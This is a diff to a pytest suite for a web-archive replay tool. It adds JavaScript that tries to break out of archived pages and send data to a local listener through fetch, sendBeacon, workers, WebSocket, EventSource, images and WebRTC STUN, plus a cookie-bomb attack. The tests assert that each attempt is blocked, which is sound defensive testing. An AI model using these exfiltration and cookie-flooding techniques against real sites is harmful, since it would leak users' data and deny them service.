@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import http.server
 import json
+import socket
 import threading
 import time
 from collections.abc import Iterator
@@ -151,6 +152,61 @@ CONFIGURATION = (
 """
 )
 
+ESCAPE = (
+    TOOLS
+    + """
+const loaded = async (src) => {
+  const frame = element("iframe", {});
+  const done = new Promise((done) => { frame.onload = done; setTimeout(done, 4000); });
+  frame.src = src;
+  await done;
+  return frame.contentWindow;
+};
+const from = (frame, name, asks = true) => Promise.all([
+  attempt("fetch " + name, async () => (await frame.fetch(TO + "fetch", { mode: "no-cors" })).type),
+  attempt("beacon " + name, () => frame.navigator.sendBeacon(TO + "beacon", "secret")),
+  attempt("worker " + name, () => new Promise((done, failed) => {
+    const worker = new frame.Worker(frame.URL.createObjectURL(new frame.Blob([`fetch("${TO}worker")`])));
+    worker.onerror = failed;
+  })),
+  attempt("socket " + name, () => new Promise((done, failed) => {
+    const socket = new frame.WebSocket(TO.replace("http", "ws") + "socket");
+    socket.onopen = () => done("open");
+    socket.onerror = failed;
+  })),
+  attempt("events " + name, () => new Promise((done, failed) => {
+    const source = new frame.EventSource(TO + "events");
+    source.onopen = () => done("open");
+    source.onerror = failed;
+  })),
+  attempt("image " + name, () => { new frame.Image().src = TO + "image"; }),
+  attempt("rtc " + name, async () => {
+    if (!asks) throw new Error("no policy forbids it");
+    const urls = "stun:" + TO.replace(/http:..|.$/g, "");
+    const peer = new frame.RTCPeerConnection({ iceServers: [{ urls }] });
+    peer.createDataChannel("x");
+    await peer.setLocalDescription(await peer.createOffer());
+    return "asked";
+  }),
+]);
+(async () => {
+  for (const it of await navigator.serviceWorker.getRegistrations()) await it.unregister();
+  const long = "b".repeat(70000);
+  const places = {
+    path: "/" + long, query: "/?" + long, missing: "/nothing", raw: "/raw/", other: "/raw/id_/" + SITE + "/x",
+    wabac: "/wabac.js", script: "/replay-start.js", start: "/", api: "/api/summary", escaped: "/%ff%00",
+  };
+  for (const [name, place] of Object.entries(places)) await from(await loaded(place), name);
+  await from(await loaded("/sw.js"), "worker", false);
+  for (let at = 0; at < 60; at += 1) document.cookie = `bomb${at}=${"x".repeat(3900)}; path=/`;
+  tried.filled = String(document.cookie.length > 200000);
+  await from(await loaded("/after-cookies"), "cookies");
+  tried.left = String(document.cookie.includes("bomb"));
+  finish();
+})();
+"""
+)
+
 
 class Listener(http.server.ThreadingHTTPServer):
     """Another program of this computer, which writes down what it is asked for."""
@@ -159,6 +215,15 @@ class Listener(http.server.ThreadingHTTPServer):
         self.asked: list[str] = []
         super().__init__(("127.0.0.1", 0), _Handler)
         threading.Thread(target=self.serve_forever, daemon=True).start()
+        # What WebRTC asks, which it does without a connection.
+        self.datagrams = socket.socket(type=socket.SOCK_DGRAM)
+        self.datagrams.bind(self.server_address)
+        threading.Thread(target=self._receive, daemon=True).start()
+
+    def _receive(self) -> None:
+        with suppress(OSError):
+            while True:
+                self.asked.append(f"datagram {self.datagrams.recv(2000)!r}")
 
 
 class _Handler(http.server.BaseHTTPRequestHandler):
@@ -184,6 +249,7 @@ def listener() -> Iterator[Listener]:
     yield made
     made.shutdown()
     made.server_close()
+    made.datagrams.close()
 
 
 @pytest.fixture(scope="module")
@@ -192,6 +258,8 @@ def replay(serve, listener, tmp_path_factory) -> str:
     targets = json.dumps([f"http://{host}:{listener.server_port}/" for host in HOSTS])
     to = f"http://127.0.0.1:{listener.server_port}/"
     scripts = {
+        "plain": f'{TOOLS}attempt("cookie", () => document.cookie).then(finish)',
+        "escape": f'const TO = "{to}", SITE = "{SITE}";{ESCAPE}',
         "loads": f"const TARGETS = {targets};{LOADS}",
         "configuration": f'const TO = "{to}";{CONFIGURATION}',
     }
@@ -257,3 +325,37 @@ def test_the_worker_keeps_its_collection_and_policies(replay, listener, page) ->
     listener.asked.clear()
     assert shown(page, replay, "configuration.xhtml") == {"socket": "refused", "fetch": "refused"}
     assert listener.asked == []
+
+
+def test_no_answer_without_the_worker_is_a_way_out(replay, listener, page) -> None:
+    listener.asked.clear()
+    tried = shown(page, replay, "escape.xhtml")
+    assert listener.asked == []
+    assert (tried.pop("filled"), tried.pop("left")) == ("true", "false")
+    assert {value for name, value in tried.items() if not name.startswith(("beacon worker", "image"))} == {
+        "refused"
+    }
+
+
+@pytest.mark.parametrize("count", [60, 170])
+def test_cookies_lock_nothing(replay, pages, count) -> None:
+    # A browser without other pages of this site: their requests, too, would have the cookies cleared.
+    with pages.browser.new_context() as context:
+        context.add_cookies(
+            [{"name": f"bomb{it}", "value": "x" * 3900, "url": replay} for it in range(count)]
+        )
+        page = context.new_page()
+        assert page.goto(f"{replay}web/2026/{SITE}/plain.xhtml").status == 431
+        assert page.reload().status == 200
+        assert context.cookies() == []
+        shown(page, replay, "plain.xhtml")
+        assert "may be untrue" in page.inner_text("#claim")
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
+def test_archived_scripts_have_no_cookies_of_other_programs(replay, page, host) -> None:
+    page.context.add_cookies([{"name": "theirs", "value": "secret", "url": f"http://{host}/"}])
+    address = replay.replace("replay.localhost", host)
+    page.goto(f"{address}web/2026/{SITE}/plain.xhtml")
+    assert page.url == f"{replay}web/2026/{SITE}/plain.xhtml"
+    assert "theirs" not in shown(page, address, "plain.xhtml")["cookie"]
